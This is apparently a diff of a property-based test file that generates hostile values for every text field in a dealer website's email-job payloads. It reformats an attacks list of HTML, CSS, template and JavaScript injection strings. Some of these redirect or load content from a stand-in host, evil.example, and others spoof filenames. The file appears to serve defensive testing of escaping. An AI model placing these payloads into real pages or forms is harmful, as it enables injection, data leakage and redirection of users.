@@ -34,8 +34,20 @@ const attacks = [
   '<style>@import "https://evil.example/";*{background:url(https://evil.example/)}</style>',
   '<meta http-equiv=refresh content="0;url=https://evil.example/">',
   '<base href="https://evil.example/"><form action="https://evil.example/"><button>',
-  '<!--', ']]>', '--><script>globalThis.executed=1</script>', '{{7*7}}', '${7*7}', 'javascript:globalThis.executed=1',
-  '\u202Eexe.cod', '\uD800', 'x'.repeat(2_000), '李'.repeat(400), '.', '..', 'From ', '-- ',
+  '<!--',
+  ']]>',
+  '--><script>globalThis.executed=1</script>',
+  '{{7*7}}',
+  '${7*7}',
+  'javascript:globalThis.executed=1',
+  '\u202Eexe.cod',
+  '\uD800',
+  'x'.repeat(2_000),
+  '李'.repeat(400),
+  '.',
+  '..',
+  'From ',
+  '-- ',
 ];
 
 const piece = fc.oneof(
@@ -44,22 +56,59 @@ const piece = fc.oneof(
   { weight: 1, arbitrary: fc.string({ maxLength: 20 }) },
 );
 /** Any text that somebody may have typed, or put into a request. */
-const hostileText = fc.array(piece, { minLength: 1, maxLength: 3 }).map((pieces) => pieces.join(''));
+const hostileText = fc
+  .array(piece, { minLength: 1, maxLength: 3 })
+  .map((pieces) => pieces.join(''));
 
 /** Addresses that the schema of a job lets pass. */
-const address = fc.constantFrom('zoe@example.com', "o'hara+tag@example.com", 'a.b_c-d@sub.example.com', 'UPPER@EXAMPLE.COM');
+const address = fc.constantFrom(
+  'zoe@example.com',
+  "o'hara+tag@example.com",
+  'a.b_c-d@sub.example.com',
+  'UPPER@EXAMPLE.COM',
+);
 
-const sender = { reference: fc.constant(reference), name: hostileText, email: address, phone: hostileText };
+const sender = {
+  reference: fc.constant(reference),
+  name: hostileText,
+  email: address,
+  phone: hostileText,
+};
 const receipt = { reference: fc.constant(reference), email: address };
 
 /** Payloads of every job, hostile in every field that is a text. */
 export const hostilePayloads: { readonly [K in MailKind]: fc.Arbitrary<MailPayload<K>> } = {
-  'vehicle-inquiry': fc.record({ ...sender, message: hostileText, vehicleName: hostileText, vehiclePrice: hostileText }),
+  'vehicle-inquiry': fc.record({
+    ...sender,
+    message: hostileText,
+    vehicleName: hostileText,
+    vehiclePrice: hostileText,
+  }),
   'vehicle-inquiry-receipt': fc.record(receipt),
-  'contact-message': fc.record({ ...sender, team: fc.constantFrom('sales', 'support', 'network'), message: hostileText, subject: hostileText, state: hostileText }),
-  'contact-message-receipt': fc.record({ ...receipt, team: fc.constantFrom('sales', 'support', 'network') }),
-  'dealer-application': fc.record({ ...sender, address: hostileText, city: hostileText, state: hostileText, zipCode: hostileText, membershipId: fc.option(hostileText) }),
+  'contact-message': fc.record({
+    ...sender,
+    team: fc.constantFrom('sales', 'support', 'network'),
+    message: hostileText,
+    subject: hostileText,
+    state: hostileText,
+  }),
+  'contact-message-receipt': fc.record({
+    ...receipt,
+    team: fc.constantFrom('sales', 'support', 'network'),
+  }),
+  'dealer-application': fc.record({
+    ...sender,
+    address: hostileText,
+    city: hostileText,
+    state: hostileText,
+    zipCode: hostileText,
+    membershipId: fc.option(hostileText),
+  }),
   'dealer-application-receipt': fc.record({ ...receipt, state: hostileText }),
-  'dealer-application-approved': fc.record({ ...receipt, state: hostileText, stateSlug: fc.constantFrom('ohio', 'new-york') }),
+  'dealer-application-approved': fc.record({
+    ...receipt,
+    state: hostileText,
+    stateSlug: fc.constantFrom('ohio', 'new-york'),
+  }),
   'dealer-application-declined': fc.record({ ...receipt, state: hostileText }),
 };
